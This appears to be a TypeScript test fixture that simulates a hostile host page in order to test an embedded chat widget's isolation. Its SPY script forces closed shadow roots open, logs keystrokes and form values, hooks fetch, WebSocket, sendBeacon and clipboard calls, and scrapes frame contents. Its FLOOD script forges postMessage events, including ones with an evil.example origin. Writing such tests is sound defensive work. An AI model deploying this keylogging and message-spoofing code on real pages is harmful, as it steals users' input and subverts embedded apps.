/** A script of a hostile host page that runs before ours: it listens wherever a page can, and keeps what it hears. */

type Spying = {
  /** everything that was heard */
  heard: string[]
  hear: (...things: unknown[]) => void
  roots: ShadowRoot[]
}
declare global {
  interface Window extends Spying {}
}

// each part is sent to the page as its source: it may use nothing but the page and what the first one left there

function ears(): void {
  window.heard = []
  window.roots = []
  window.hear = (...things) => {
    for (const thing of things)
      if (thing) window.heard.push(typeof thing === 'string' ? thing : (JSON.stringify(thing) ?? ''))
  }
}

/** Every shadow root is handed over, closed or not, and watched as the page is. */
function intoRoots(): void {
  const observe = (root: Node) =>
    new MutationObserver((changes) => {
      for (const { target, addedNodes } of changes)
        for (const node of [target, ...addedNodes]) window.hear(node.textContent)
    }).observe(root, { subtree: true, childList: true, characterData: true, attributes: true })
  observe(document)
  const attach = Element.prototype.attachShadow
  Element.prototype.attachShadow = function (how) {
    const root = attach.call(this, { ...how, mode: 'open' })
    window.roots.push(root)
    observe(root)
    return root
  }
}

/** What any script reads from a field or writes into one. */
function intoFields(): void {
  for (const prototype of [HTMLInputElement.prototype, HTMLTextAreaElement.prototype]) {
    const real = Object.getOwnPropertyDescriptor(prototype, 'value') as PropertyDescriptor
    Object.defineProperty(prototype, 'value', {
      ...real,
      get() {
        const value = real.get?.call(this)
        window.hear(value)
        return value
      },
      set(value) {
        window.hear(value)
        real.set?.call(this, value)
      },
    })
  }
}

/** Keys, clicks, fields and messages, before anybody else gets them. */
function intoEvents(): void {
  let keys = ''
  for (const name of ['keydown', 'input', 'beforeinput', 'change', 'click', 'paste', 'copy', 'message'])
    addEventListener(
      name,
      (event) => {
        const [inner] = event.composedPath() as HTMLInputElement[]
        if (event instanceof KeyboardEvent && event.key.length === 1) keys += event.key
        window.hear(keys, inner?.value, inner?.textContent, (event as MessageEvent).data)
      },
      true,
    )
}

/** What leaves the page, by whatever door, and what is taken from the clipboard. */
function intoSending(): void {
  const overhear = (target: object, name: string) => {
    const real = Reflect.get(target, name)
    Object.defineProperty(target, name, {
      value(this: unknown, ...words: unknown[]) {
        window.hear(name, ...words)
        return real.apply(this, words)
      },
    })
  }
  overhear(window, 'fetch')
  overhear(XMLHttpRequest.prototype, 'send')
  overhear(WebSocket.prototype, 'send')
  overhear(Navigator.prototype, 'sendBeacon')
  overhear(Clipboard.prototype, 'writeText')
  overhear(EventTarget.prototype, 'addEventListener')
}

/** Looks again and again into frames, as far as the browser lets a page. */
function intoFrames(): void {
  setInterval(() => {
    for (const root of [document, ...window.roots])
      for (const frame of root.querySelectorAll('iframe'))
        window.hear(frame.contentDocument?.documentElement?.outerHTML)
  }, 100)
}

const script = (parts: (() => void)[]) => `<script>${parts.map((part) => `(${part})();`).join('')}</script>`

export const SPY = script([ears, intoRoots, intoFields, intoEvents, intoSending, intoFrames])

/** Says again and again, in every voice that a page has, what only the chat and its loader may say to each other. */
function flood(): void {
  const other = document.createElement('iframe')
  document.addEventListener('DOMContentLoaded', () => document.body.append(other))
  const said = [
    { kynnys: 'ready' },
    { kynnys: 'resize', height: 9999 },
    { kynnys: 'close' },
    { kynnys: 'exit' },
    { kynnys: { toString: 1 } },
    'exit',
    null,
    [['kynnys', 'exit']],
  ]
  setInterval(() => {
    const frames = window.roots.flatMap((root) => [...root.querySelectorAll('iframe')])
    for (const data of said) {
      window.postMessage(data, '*')
      const chat = frames[0]?.src ? new URL(frames[0].src).origin : ''
      for (const [origin, source] of [
        [chat, window],
        [chat, other.contentWindow],
        ['https://evil.example', frames[0]?.contentWindow ?? null],
      ] as const)
        dispatchEvent(new MessageEvent('message', { data, origin, source }))
      for (const { contentWindow } of frames) contentWindow?.postMessage(data, '*')
      // in the voice of another frame
      const voice = other.contentWindow as (Window & { eval(code: string): void }) | null
      voice?.eval(`parent.postMessage(${JSON.stringify(data)}, '*')`)
    }
  }, 50)
}

export const FLOOD = script([flood])
